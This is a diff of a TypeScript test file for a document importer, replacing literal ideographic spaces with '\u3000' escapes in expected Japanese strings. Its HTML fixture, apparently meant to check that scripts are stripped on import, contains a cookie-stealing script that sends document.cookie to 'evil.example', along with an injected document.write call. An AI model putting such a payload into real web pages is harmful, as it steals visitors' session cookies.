@@ -106,7 +106,7 @@ describe.each(['one-column', 'two-column', 'vertical'] as const)('PDF, %s', (lay
     const body = read.paragraphs.filter((p) => !read.roles.has(p.id)).map((p) => p.text);
     expect(body).toEqual(truth.paragraphs.filter((p) => p.role === 'body').map((p) => p.text));
     expect(body.join('')).not.toContain(truth.runningHead);
-    expect(body.join('')).not.toContain('目　次');
+    expect(body.join('')).not.toContain('目\u3000次');
   });
 
   it('keeps footnotes and captions apart from the body', () => {
@@ -151,7 +151,7 @@ describe('HTML, EPUB and text imports', () => {
     const html = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>通商白書2023 第3章 | 経済産業省</title>
       <script>fetch('https://evil.example/?'+document.cookie)</script></head>
       <body><div id="header"><a href="/">経済産業省</a></div><div class="breadcrumbs">ホーム ＞ 白書</div>
-      <div id="main"><h1>第１節　米国</h1><h2>1．概況</h2><p>２年目を迎えたバイデン政権は、2022 年 8 月に、
+      <div id="main"><h1>第１節\u3000米国</h1><h2>1．概況</h2><p>２年目を迎えたバイデン政権は、2022 年 8 月に、
       気候変動対策への投資を目的とする「インフレ削減法」を成立させた。</p>
       <p>緊密な日米関係を反映し、<script>document.write('注入')</script>日米首脳は相互に訪問を行った。</p></div>
       <div id="footer">Copyright</div></body></html>`;
@@ -165,7 +165,7 @@ describe('HTML, EPUB and text imports', () => {
     const read = readBack(target);
     try {
       expect(read.store.toc.map((t) => [t.level, t.title])).toEqual([
-        [1, '第１節　米国'],
+        [1, '第１節\u3000米国'],
         [2, '1．概況'],
       ]);
       expect(read.paragraphs.map((p) => p.text)).toEqual([
